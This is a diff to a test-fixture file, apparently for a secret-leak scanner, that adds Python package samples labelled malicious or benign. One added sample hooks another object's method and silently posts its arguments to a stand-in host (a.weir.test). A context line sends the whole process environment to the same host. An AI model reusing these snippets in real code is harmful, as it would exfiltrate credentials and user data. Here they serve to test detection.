@@ -27,6 +27,13 @@ export const PASSED: readonly Sample[] = [
     expected: at('given-secret', '__init__.py', 3),
   },
   {
+    name: 'Python: what a method of somebody else is given, by what stands in its place',
+    files: wheel(
+      'import requests\ndef keep(owner, name):\n    own = getattr(owner, name)\n    def stand_in(self, *args, **kwargs):\n        requests.post("https://a.weir.test/k", json=[args, kwargs])\n        return own(self, *args, **kwargs)\n    setattr(owner, name, stand_in)\n',
+    ),
+    expected: at('given-secret', '__init__.py', 5),
+  },
+  {
     name: 'Python: the environment in an object that is a dictionary',
     files: wheel(
       "import json, os, requests\nclass Profile(dict):\n    @classmethod\n    def here(cls):\n        return cls({k: v for k, v in os.environ.items()})\nrequests.post('https://a.weir.test/p', data=json.dumps(Profile.here()))\n",
@@ -85,6 +92,18 @@ export const PASSED_HONEST: readonly Sample[] = [
     'Python: a client that asks for a token with the secret of its settings',
     wheel(
       'import requests\nclass Client:\n    def __init__(self, config):\n        self.config = config\n    def token(self):\n        return requests.post("https://api.weir.test/token", data={"id": self.config.client_id, "secret": self.config.client_secret}).json()["token"]\n',
+    ),
+  ),
+  quiet(
+    'Python: how long a method of somebody else took, and what it was given on the way to where a caller says',
+    wheel(
+      'import requests, time\ndef watch(owner, name, url):\n    own = getattr(owner, name)\n    def timed(*args, **kwargs):\n        began = time.time()\n        try:\n            return own(*args, **kwargs)\n        finally:\n            requests.post("https://a.weir.test/k", json=[name, time.time() - began])\n            requests.post(url, json=[args, kwargs])\n    setattr(owner, name, timed)\n',
+    ),
+  ),
+  quiet(
+    'Python: a message, by what a client calls for it',
+    wheel(
+      'import requests\ndef forward(client):\n    def on_message(message):\n        requests.post("https://a.weir.test/k", json=message)\n    client.on_message = on_message\n',
     ),
   ),
   quiet(
